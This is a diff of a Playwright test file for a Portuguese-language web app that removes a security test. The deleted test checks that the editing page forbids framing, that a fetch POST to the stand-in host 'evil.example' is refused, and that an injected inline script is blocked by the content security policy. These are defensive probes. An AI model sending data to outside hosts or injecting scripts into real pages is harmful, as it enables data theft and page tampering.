@@ -228,26 +228,6 @@ test('a photograph is made small, and loses its place, before it leaves', async 
   // Its size, and which way is up: photograph.spec.ts.
 });
 
-test('nobody can frame it, and it speaks to nobody else', async ({ page }) => {
-  const answer = await page.request.get(`${site.url}/editar`);
-  expect(answer.headers()['content-security-policy']).toBe("frame-ancestors 'none'");
-  await open(page);
-  const refused = await page.evaluate(() =>
-    Promise.all([
-      fetch('https://evil.example/', { method: 'POST', body: 'x' }).then(
-        () => 'sent',
-        () => 'refused',
-      ),
-      new Promise((resolve) => {
-        document.addEventListener('securitypolicyviolation', () => resolve('refused'), { once: true });
-        document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.evil = 1' }));
-      }).catch(() => 'refused'),
-    ]),
-  );
-  expect(refused[0]).toBe('refused');
-  expect(await page.evaluate(() => 'evil' in window)).toBe(false);
-});
-
 test('a key that ends within a month is said above the topics', async ({ page }) => {
   await open(page, lisbonDay(new Date(Date.now() + 20 * 86_400_000)));
   await expect(page.getByRole('navigation')).toContainText(/A chave acaba a \d+ de \p{L}+ de \d{4}: faça outra/u);
